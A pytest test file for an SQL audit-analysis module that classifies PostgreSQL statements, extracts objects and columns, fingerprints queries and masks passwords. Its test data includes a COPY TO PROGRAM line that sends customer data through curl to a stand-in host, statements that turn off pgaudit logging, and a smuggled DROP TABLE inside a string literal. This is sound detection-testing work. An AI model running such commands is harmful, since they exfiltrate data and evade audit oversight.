"""SQL analysis: one line per statement -> expected class, category, objects, columns."""

from __future__ import annotations

import logging

import polars as pl
import pytest

from auditkit import sql as sql_module
from auditkit.sql import (
    ANALYSIS_SCHEMA,
    StatementAnalysis,
    analyze_frame,
    analyze_statement,
    enrich_sql,
    mask_secrets,
)

# sql -> (statement_class, category, objects_read, objects_written)
CLASSIFY = [
    # reads
    ("SELECT a FROM customers", "SELECT", "read", ["public.customers"], []),
    ("select * from Customers c join orders o on o.cid = c.id", "SELECT", "read",
     ["public.customers", "public.orders"], []),
    ("SELECT c.name FROM customers AS c LEFT JOIN sales.orders o ON o.cid = c.id", "SELECT",
     "read", ["public.customers", "sales.orders"], []),
    ("SELECT * FROM (SELECT id FROM orders) AS s", "SELECT", "read", ["public.orders"], []),
    ("SELECT * FROM t WHERE id IN (SELECT tid FROM refunds)", "SELECT", "read",
     ["public.refunds", "public.t"], []),
    ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)", "SELECT", "read",
     ["public.t", "public.u"], []),
    ("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent", "SELECT", "read",
     ["public.orders"], []),
    ("WITH orders AS (SELECT * FROM orders WHERE x) SELECT * FROM orders", "SELECT", "read",
     ["public.orders"], []),
    ("WITH RECURSIVE tree AS (SELECT id FROM nodes UNION ALL SELECT n.id FROM nodes n "
     "JOIN tree ON n.parent = tree.id) SELECT * FROM tree", "SELECT", "read", ["public.nodes"], []),
    ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "SELECT", "read", [], []),
    ("(SELECT a FROM t1) UNION (SELECT a FROM t2)", "SELECT", "read",
     ["public.t1", "public.t2"], []),
    ("VALUES (1, 2)", "SELECT", "read", [], []),
    ("SELECT * FROM generate_series(1, 3) AS g", "SELECT", "read", [], []),
    ("SELECT * FROM analytics.prod.events", "SELECT", "read", ["prod.events"], []),
    ('SELECT * FROM "Weird Name" JOIN "Sales"."Q1" ON true', "SELECT", "read",
     ['"Sales"."Q1"', 'public."Weird Name"'], []),
    ("SELECT * FROM PUBLIC.Customers", "SELECT", "read", ["public.customers"], []),
    ("SELECT * FROM t WHERE id = $1 AND name = $2", "SELECT", "read", ["public.t"], []),
    ("SELECT 'a;b', 'it''s', 'x,y' FROM t", "SELECT", "read", ["public.t"], []),
    ("SELECT 'line1\nline2; DROP TABLE x' FROM t", "SELECT", "read", ["public.t"], []),
    ("/* app=web */ SELECT a FROM t -- trailing", "SELECT", "read", ["public.t"], []),
    # writes
    ("INSERT INTO archive (id, a) SELECT id, a FROM orders o WHERE o.x > 1", "INSERT", "write",
     ["public.orders"], ["public.archive"]),
    ("INSERT INTO t VALUES (1, 'a')", "INSERT", "write", [], ["public.t"]),
    ("WITH s AS (SELECT * FROM src) INSERT INTO dst SELECT * FROM s", "INSERT", "write",
     ["public.src"], ["public.dst"]),
    ("UPDATE accounts a SET balance = t.amount FROM transfers t WHERE t.aid = a.id", "UPDATE",
     "write", ["public.transfers"], ["public.accounts"]),
    ("UPDATE t SET a = 1 WHERE b IN (SELECT b FROM u)", "UPDATE", "write", ["public.u"],
     ["public.t"]),
    ("DELETE FROM t USING u WHERE t.id = u.id", "DELETE", "write", ["public.u"], ["public.t"]),
    ("DELETE FROM t WHERE id = 1", "DELETE", "write", [], ["public.t"]),
    ("DELETE FROM t WHERE id = 1 RETURNING *", "DELETE", "write", ["public.t"], ["public.t"]),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", "MERGE",
     "write", ["public.s"], ["public.t"]),
    ("TRUNCATE t, audit.log", "TRUNCATE", "write", [], ["audit.log", "public.t"]),
    ("SELECT * INTO backup FROM customers", "SELECT", "write", ["public.customers"],
     ["public.backup"]),
    ("WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone", "SELECT", "write",
     ["public.customers"], ["public.customers"]),
    ("COPY t FROM STDIN", "COPY", "write", [], ["public.t"]),
    ("COPY t (a, b) FROM '/tmp/in.csv' WITH (FORMAT csv)", "COPY", "write", [], ["public.t"]),
    # exports
    ("COPY customers TO STDOUT", "COPY", "export", ["public.customers"], []),
    ("COPY (SELECT * FROM customers c JOIN orders o ON o.cid = c.id) TO '/tmp/x.csv'", "COPY",
     "export", ["public.customers", "public.orders"], []),
    ("COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- evil'", "COPY", "export",
     ["public.customers"], []),
    # schema
    ("CREATE TABLE t (a int, b text)", "CREATE TABLE", "schema", [], ["public.t"]),
    ("CREATE TABLE t2 AS SELECT * FROM t", "CREATE TABLE AS", "schema", ["public.t"],
     ["public.t2"]),
    # a view stores its query: defining it reads no data (pgaudit logs only the DDL row)
    ("CREATE OR REPLACE VIEW v AS SELECT a FROM t JOIN u ON t.id = u.id", "CREATE VIEW",
     "schema", [], ["public.v"]),
    ("CREATE MATERIALIZED VIEW mv AS SELECT * FROM t", "CREATE MATERIALIZED VIEW", "schema",
     ["public.t"], ["public.mv"]),
    ("CREATE UNIQUE INDEX CONCURRENTLY idx ON sales.t (a)", "CREATE INDEX", "schema", [],
     ["sales.t"]),
    ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE", "schema", [], ["public.t"]),
    ("ALTER TABLE s.t RENAME TO u", "ALTER TABLE", "schema", [], ["s.t", "s.u"]),
    ("DROP TABLE IF EXISTS t, s.u CASCADE", "DROP TABLE", "schema", [], ["public.t", "s.u"]),
    ("DROP VIEW v", "DROP VIEW", "schema", [], ["public.v"]),
    ("DROP INDEX idx", "DROP INDEX", "schema", [], ["public.idx"]),
    ("CREATE SCHEMA sales", "CREATE SCHEMA", "schema", [], ["schema:sales"]),
    ("DROP SCHEMA sales CASCADE", "DROP SCHEMA", "schema", [], ["schema:sales"]),
    ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION",
     "schema", [], ["function:public.f"]),
    ("COMMENT ON TABLE t IS 'x'", "COMMENT", "schema", [], ["public.t"]),
    # permission
    ("GRANT SELECT ON customers TO analyst", "GRANT", "permission", [], ["public.customers"]),
    ("GRANT SELECT, UPDATE ON TABLE a, s.b TO analyst", "GRANT", "permission", [],
     ["public.a", "s.b"]),
    ("GRANT USAGE ON SCHEMA sales TO analyst", "GRANT", "permission", [], ["schema:sales"]),
    ("GRANT SELECT ON ALL TABLES IN SCHEMA sales TO analyst", "GRANT", "permission", [],
     ["sales.*"]),
    ("GRANT admin TO bob", "GRANT", "permission", [], ["role:admin"]),
    ("REVOKE ALL ON customers FROM PUBLIC", "REVOKE", "permission", [], ["public.customers"]),
    ("CREATE ROLE alice LOGIN PASSWORD 'hunter2'", "CREATE ROLE", "permission", [],
     ["role:alice"]),
    ("CREATE USER \"Bob\" WITH PASSWORD 'x'", "CREATE ROLE", "permission", [], ['role:"Bob"']),
    ("ALTER USER alice WITH ENCRYPTED PASSWORD 'md5abc'", "ALTER ROLE", "permission", [],
     ["role:alice"]),
    ("ALTER ROLE alice SUPERUSER", "ALTER ROLE", "permission", [], ["role:alice"]),
    ("DROP ROLE IF EXISTS alice, bob", "DROP ROLE", "permission", [], ["role:alice", "role:bob"]),
    ("REASSIGN OWNED BY alice TO bob", "REASSIGN OWNED", "permission", [],
     ["role:alice", "role:bob"]),
    ("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r",
     "ALTER DEFAULT PRIVILEGES", "permission", [], ["schema:s"]),
    # audit configuration
    ("SET pgaudit.log = 'none'", "SET", "audit_config", [], []),
    ("SET LOCAL pgaudit.log TO 'none'", "SET", "audit_config", [], []),
    ("RESET pgaudit.log", "RESET", "audit_config", [], []),
    ("ALTER SYSTEM SET pgaudit.log = 'none'", "ALTER SYSTEM", "audit_config", [], []),
    ("ALTER SYSTEM SET log_statement = 'none'", "ALTER SYSTEM", "audit_config", [], []),
    ("ALTER ROLE alice SET pgaudit.log = 'none'", "ALTER ROLE", "audit_config", [],
     ["role:alice"]),
    ("ALTER DATABASE shop SET pgaudit.log = 'none'", "ALTER DATABASE", "audit_config", [],
     ["database:shop"]),
    ("SELECT set_config('pgaudit.log', 'none', false)", "SELECT", "audit_config", [], []),
    ("DROP EXTENSION pgaudit", "DROP EXTENSION", "audit_config", [], ["extension:pgaudit"]),
    # configuration
    ("SET search_path TO sales, public", "SET", "config", [], []),
    ("SET search_path = sales", "SET", "config", [], []),
    ("SET statement_timeout = 0", "SET", "config", [], []),
    ("ALTER SYSTEM SET work_mem = '1GB'", "ALTER SYSTEM", "config", [], []),
    ("ALTER ROLE alice SET search_path = sales", "ALTER ROLE", "config", [], ["role:alice"]),
    # other
    ("SHOW search_path", "SHOW", "other", [], []),
    ("BEGIN", "BEGIN", "other", [], []),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "START TRANSACTION", "other", [], []),
    ("COMMIT", "COMMIT", "other", [], []),
    ("END", "COMMIT", "other", [], []),
    ("ROLLBACK", "ROLLBACK", "other", [], []),
    ("SAVEPOINT sp1", "SAVEPOINT", "other", [], []),
    ("RELEASE SAVEPOINT sp1", "RELEASE", "other", [], []),
    ("EXECUTE q(1)", "EXECUTE", "other", [], []),
    ("CALL refresh_all()", "CALL", "other", [], []),
    ("VACUUM ANALYZE t", "VACUUM", "other", [], []),
    ("ANALYZE t", "ANALYZE", "other", [], []),
    ("DISCARD ALL", "DISCARD", "other", [], []),
    ("LISTEN jobs", "LISTEN", "other", [], []),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "LOCK TABLE", "other", [], []),
    ("nonsense words", "OTHER", "other", [], []),
    # statements wrapping others: objects of the inner one, category only if it runs
    ("PREPARE q (int) AS SELECT * FROM t WHERE id = $1", "PREPARE", "other", ["public.t"], []),
    ("EXPLAIN SELECT * FROM t", "EXPLAIN", "other", ["public.t"], []),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "EXPLAIN", "write", [], ["public.t"]),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE CURSOR", "read", ["public.t"], []),
    # multi-statement strings: first class, strongest category, union of objects
    ("SELECT 1; UPDATE t SET a = 'x;y'", "SELECT", "write", [], ["public.t"]),
    ("BEGIN; SELECT * FROM a; COPY b TO STDOUT; COMMIT;", "BEGIN", "export",
     ["public.a", "public.b"], []),
    ("SET pgaudit.log = 'none'; GRANT SELECT ON t TO x", "SET", "permission", [], ["public.t"]),
    ("SELECT * FROM a;; SELECT * FROM b;", "SELECT", "read", ["public.a", "public.b"], []),
]


@pytest.mark.parametrize(("sql", "statement_class", "category", "read", "written"), CLASSIFY)
def test_classification_and_objects(sql, statement_class, category, read, written):
    result = analyze_statement(sql)
    assert (result.statement_class, result.category) == (statement_class, category)
    assert result.objects_read == sorted(read)
    assert result.objects_written == sorted(written)
    assert result.is_export == (category == "export")


# Statements sqlglot cannot parse: keyword analysis, never an exception.
# sql -> (statement_class, category, objects_read, objects_written, sql_error expected)
FALLBACK = [
    ("CREATE USER app password <REDACTED>", "CREATE ROLE", "permission", [], ["role:app"], True),
    ("ALTER ROLE app WITH PASSWORD <REDACTED>", "ALTER ROLE", "permission", [], ["role:app"],
     True),
    ("SELECT * FROM customers WHERE name = 'trunc", "SELECT", "read", ["public.customers"], [],
     True),
    ("SELECT a, b FROM orders WHERE", "SELECT", "read", ["public.orders"], [], True),
    ("INSERT INTO t (a) VALUES ('x", "INSERT", "write", [], ["public.t"], True),
    ("UPDATE accounts SET balance = 0 WHERE id = 'tru", "UPDATE", "write", [], ["public.accounts"],
     True),
    ("COPY (SELECT * FROM customers WHERE", "COPY", "export", ["public.customers"], [], True),
    ("DO $$ BEGIN DELETE FROM customers WHERE id = 1; END $$", "DO", "other", [],
     ["public.customers"], True),
    ("GRANT SELECT ON t TO bob WITH GRANT OPTION GRANTED BY <REDACTED>", "GRANT", "permission",
     [], ["public.t"], True),
    ("CREATE ROLE alice LOGIN PASSWORD 'x'", "CREATE ROLE", "permission", [], ["role:alice"],
     False),
    ("SET search_path TO a, b", "SET", "config", [], [], False),
]


@pytest.mark.parametrize(("sql", "statement_class", "category", "read", "written", "error"),
                         FALLBACK)
def test_unparsable_statements_fall_back_to_keywords(
    sql, statement_class, category, read, written, error
):
    result = analyze_statement(sql)
    assert (result.statement_class, result.category) == (statement_class, category)
    assert (result.objects_read, result.objects_written) == (read, written)
    assert (result.sql_error is not None) == error
    assert result.fingerprint is not None


def test_parse_failure_message_is_short_and_names_sqlglot():
    error = analyze_statement("CREATE USER app password <REDACTED>").sql_error
    assert error.startswith("sqlglot: ") and "<REDACTED>" in error
    error = analyze_statement("SELECT a b c FROM t").sql_error
    assert error.startswith("sqlglot: ") and len(error) <= 200 and "\x1b" not in error


def test_parse_failure_message_does_not_quote_the_sql():
    error = analyze_statement("ALTER ROLE a PASSWORD 'hunter2").sql_error
    assert error is None or "hunter2" not in error
    error = analyze_statement("SELECT * FROM t WHERE pw = 'hunter2").sql_error
    assert "hunter2" not in error


def test_only_the_failing_statement_of_a_string_falls_back():
    result = analyze_statement("SELECT c.a FROM customers c; SELECT FROM WHERE")
    assert result.columns == ["public.customers.a"]
    assert result.sql_error.startswith("statement 2: sqlglot:")


@pytest.mark.parametrize("sentinel", ["<not logged>", "<previously logged>", " <NOT LOGGED> "])
def test_not_logged_sentinels(sentinel):
    assert analyze_statement(sentinel) == StatementAnalysis(
        None, None, [], [], [], None, "statement not logged", False
    )


@pytest.mark.parametrize("sql", ["", "   ", ";", "-- only a comment"])
def test_empty_statements(sql):
    result = analyze_statement(sql)
    assert result.statement_class is None and result.sql_error == "empty statement"


def test_very_long_statements_use_the_keyword_analysis():
    sql = "INSERT INTO t (a) VALUES " + ", ".join(f"({i})" for i in range(30_000))
    result = analyze_statement(sql)
    assert (result.statement_class, result.objects_written) == ("INSERT", ["public.t"])
    assert "longer than" in result.sql_error


def test_join_chains_without_on_skip_sqlglot():
    # Invalid SQL on which sqlglot would backtrack for minutes.
    result = analyze_statement("SELECT * FROM " + "a JOIN " * 40 + "b")
    assert (result.statement_class, result.objects_read) == ("SELECT", ["public.a", "public.b"])
    assert "JOIN" in result.sql_error


def test_deeply_nested_sql_does_not_raise():
    result = analyze_statement("SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM t")
    assert result.statement_class == "SELECT" and result.objects_read == ["public.t"]


@pytest.mark.parametrize("sql", [
    "(((", ")))", "'", '"', "$$", "$a$ x", "/* open", "--", ";;;", "SELECT (", "FROM", "\x00",
    "SELECT 'ä' FROM «t»", "WITH", "WITH x AS (", "COPY", "GRANT", "CREATE", "ALTER ROLE",
    "DO", "EXPLAIN", "PREPARE", "DECLARE", "UPDATE SET", "INSERT INTO", "x" * 5000,
    "SELECT * FROM " + "a JOIN " * 300 + "b",
])
def test_never_raises(sql):
    result = analyze_statement(sql)
    assert isinstance(result, StatementAnalysis)


def test_default_schema_is_configurable():
    result = analyze_statement("SELECT a FROM t JOIN other.u ON true", default_schema="app")
    assert result.objects_read == ["app.t", "other.u"]


# sql -> columns
COLUMNS = [
    ("SELECT a, b FROM t WHERE c = 1", ["public.t.a", "public.t.b", "public.t.c"]),
    ("SELECT c.name, o.total FROM customers c LEFT JOIN orders o ON o.cid = c.id "
     "WHERE c.region = 'EU' ORDER BY total",
     ["public.customers.id", "public.customers.name", "public.customers.region",
      "public.orders.cid", "public.orders.total"]),
    ("SELECT name FROM customers c JOIN orders o ON o.cid = c.id",
     ["?.name", "public.customers.id", "public.orders.cid"]),
    ("SELECT * FROM customers", ["public.customers.*"]),
    ("SELECT c.*, o.id FROM customers c, orders o", ["public.customers.*", "public.orders.id"]),
    ("SELECT a AS x FROM t ORDER BY x", ["public.t.a"]),
    ("SELECT s.id FROM (SELECT id FROM orders) s", ["public.orders.id"]),
    ("WITH r AS (SELECT id, total FROM orders) SELECT id FROM r", ["public.orders.id",
                                                                   "public.orders.total"]),
    ("SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)",
     ["public.t.*", "public.t.id", "public.u.tid"]),
    ("SELECT o.id FROM sales.orders o", ["sales.orders.id"]),
    ('SELECT "Full Name" FROM "Weird Name"', ['public."Weird Name"."Full Name"']),
    ("INSERT INTO archive (id, total) SELECT id, total FROM orders",
     ["public.archive.id", "public.archive.total", "public.orders.id", "public.orders.total"]),
    ("UPDATE accounts a SET balance = t.amount FROM transfers t WHERE t.aid = a.id",
     ["public.accounts.balance", "public.accounts.id", "public.transfers.aid",
      "public.transfers.amount"]),
    ("UPDATE t SET a = 1 WHERE b = 2", ["public.t.a", "public.t.b"]),
    ("DELETE FROM t USING u WHERE t.id = u.tid", ["public.t.id", "public.u.tid"]),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b",
     ["public.t.a", "public.t.b"]),
    ("COPY customers TO STDOUT", ["public.customers.*"]),
    ("COPY customers (id, email) TO STDOUT", ["public.customers.email", "public.customers.id"]),
    ("CREATE INDEX i ON t (email)", ["public.t.email"]),
    ("ALTER TABLE t DROP COLUMN ssn", ["public.t.ssn"]),
    ("SET pgaudit.log = 'none'", []),
    ("SELECT count(*) FROM t", []),
]


@pytest.mark.parametrize(("sql", "columns"), COLUMNS)
def test_columns(sql, columns):
    assert analyze_statement(sql).columns == columns


SAME_FINGERPRINT = [
    ("SELECT * FROM t WHERE id = 1", "select *   from T\nwhere id = 42"),
    ("SELECT * FROM t WHERE name = 'alice'", "SELECT * FROM t WHERE name = 'o''brien'"),
    ("SELECT * FROM t WHERE id = $1", "SELECT * FROM t WHERE id = 7"),
    ("SELECT * FROM t WHERE id IN (1, 2, 3)", "SELECT * FROM t WHERE id IN (4)"),
    ("SELECT * FROM t WHERE x = -1.5", "SELECT * FROM t WHERE x = 2"),
    ("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')", "INSERT INTO t (a, b) VALUES (3, 'z')"),
    ("/* req=1 */ SELECT a FROM t LIMIT 10", "SELECT a FROM t LIMIT 20 -- req=2"),
    ("SELECT 'a;b'; UPDATE t SET a = 1", "SELECT 'c'; UPDATE t SET a = 2"),
    ("SELECT * FROM t WHERE name = 'unterminated", "SELECT * FROM t WHERE name = 'other"),
    ("CREATE ROLE a PASSWORD 'x'", "CREATE ROLE a PASSWORD 'y'"),
]
DIFFERENT_FINGERPRINT = [
    ("SELECT * FROM t WHERE id = 1", "SELECT * FROM u WHERE id = 1"),
    ("SELECT a FROM t", "SELECT b FROM t"),
    ("SELECT * FROM t WHERE id = 1", "DELETE FROM t WHERE id = 1"),
    ('SELECT * FROM "T"', "SELECT * FROM t"),
    ("SELECT 1; SELECT 2", "SELECT 1"),
]


@pytest.mark.parametrize(("left", "right"), SAME_FINGERPRINT)
def test_fingerprint_ignores_literals_case_whitespace_and_comments(left, right):
    assert analyze_statement(left).fingerprint == analyze_statement(right).fingerprint


@pytest.mark.parametrize(("left", "right"), DIFFERENT_FINGERPRINT)
def test_fingerprint_tells_different_statements_apart(left, right):
    assert analyze_statement(left).fingerprint != analyze_statement(right).fingerprint


def test_fingerprint_is_16_hex_digits():
    fingerprint = analyze_statement("SELECT 1").fingerprint
    assert len(fingerprint) == 16 and int(fingerprint, 16) >= 0


def test_sqlglot_warnings_do_not_reach_the_console(caplog):
    with caplog.at_level(logging.WARNING):
        analyze_statement("CREATE ROLE alice LOGIN PASSWORD 'x'")
        analyze_statement("DO $$ BEGIN END $$")
    assert not [record for record in caplog.records if record.name.startswith("sqlglot")]


MASK = [
    ("CREATE ROLE x PASSWORD 'hunter2'", "CREATE ROLE x PASSWORD '***'"),
    ("ALTER USER bob WITH ENCRYPTED PASSWORD 'md5a''b' VALID UNTIL 'infinity'",
     "ALTER USER bob WITH ENCRYPTED PASSWORD '***' VALID UNTIL 'infinity'"),
    ("alter role a password E'it\\'s' login", "alter role a password '***' login"),
    ("CREATE USER u IDENTIFIED BY 's3cret'", "CREATE USER u IDENTIFIED BY '***'"),
    ("SET app.api_key = 'abc123'", "SET app.api_key = '***'"),
    ("ALTER SYSTEM SET my.secret TO 'zzz'", "ALTER SYSTEM SET my.secret TO '***'"),
    ("CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password 'pw')",
     "CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'bob', password '***')"),
    ("CREATE ROLE y PASSWORD 'truncated", "CREATE ROLE y PASSWORD '***'"),
    ("SET app.db_password = 'x'", "SET app.db_password = '***'"),
    ("SET PASSWORD FOR u = PASSWORD('x')", "SET PASSWORD FOR u = PASSWORD('***')"),
    ("ALTER ROLE z PASSWORD NULL", "ALTER ROLE z PASSWORD NULL"),
    ("SELECT 'key', name FROM t WHERE id = 1", "SELECT 'key', name FROM t WHERE id = 1"),
    (None, None),
]


@pytest.mark.parametrize(("raw", "masked"), MASK)
def test_mask_secrets(raw, masked):
    frame = pl.DataFrame({"statement": [raw]}, schema={"statement": pl.String})
    assert frame.select(mask_secrets(pl.col("statement"))).item() == masked


def test_masked_statements_still_analyse():
    frame = pl.DataFrame({"statement": ["CREATE ROLE x LOGIN PASSWORD 'hunter2'"]})
    masked = frame.select(mask_secrets(pl.col("statement"))).item()
    assert analyze_statement(masked).objects_written == ["role:x"]


def test_analyze_frame_analyses_each_distinct_statement_once(monkeypatch):
    calls: list[str] = []
    real = sql_module.analyze_statement

    def counting(sql, dialect="postgres", default_schema="public"):
        calls.append(sql)
        return real(sql, dialect, default_schema)

    monkeypatch.setattr(sql_module, "analyze_statement", counting)
    distinct = ["SELECT * FROM a", "UPDATE b SET x = 1", "COPY c TO STDOUT"]
    statements = pl.Series("statement", [distinct[i % 3] if i % 7 else None for i in range(1000)])
    frame = analyze_frame(statements)
    assert sorted(calls) == sorted(distinct)
    assert frame.height == 3 and frame.schema == pl.Schema(ANALYSIS_SCHEMA)
    assert dict(zip(frame["statement"], frame["sql_category"], strict=True)) == {
        "SELECT * FROM a": "read", "UPDATE b SET x = 1": "write", "COPY c TO STDOUT": "export",
    }


def test_analyze_frame_of_nothing():
    frame = analyze_frame(pl.Series("statement", [None, None], dtype=pl.String))
    assert frame.is_empty() and frame.schema == pl.Schema(ANALYSIS_SCHEMA)


def test_enrich_sql_keeps_rows_order_and_nulls():
    events = pl.DataFrame({
        "source": ["pgaudit", "pgaudit", "gateway", "pgaudit", "pgaudit"],
        "statement": ["COPY t TO STDOUT", None, "SELECT a FROM t", "COPY t TO STDOUT",
                      "<not logged>"],
        "n": [0, 1, 2, 3, 4],
    })
    enriched = enrich_sql(events)
    assert enriched.columns == [*events.columns, *list(ANALYSIS_SCHEMA)[1:]]
    assert enriched.select(events.columns).equals(events)
    assert enriched["statement_class"].to_list() == ["COPY", None, "SELECT", "COPY", None]
    assert enriched["sql_category"].to_list() == ["export", None, "read", "export", None]
    assert enriched["is_export"].to_list() == [True, None, False, True, False]
    assert enriched["objects_read"].to_list() == [["public.t"], None, ["public.t"], ["public.t"],
                                                  []]
    assert enriched["sql_error"][4] == "statement not logged"


def test_enrich_sql_twice_replaces_rather_than_duplicates():
    events = pl.DataFrame({"statement": ["SELECT 1", None]})
    assert enrich_sql(enrich_sql(events)).equals(enrich_sql(events))


def test_enrich_sql_on_no_events():
    events = pl.DataFrame(schema={"statement": pl.String, "source": pl.String})
    assert enrich_sql(events).columns == ["statement", "source", *list(ANALYSIS_SCHEMA)[1:]]
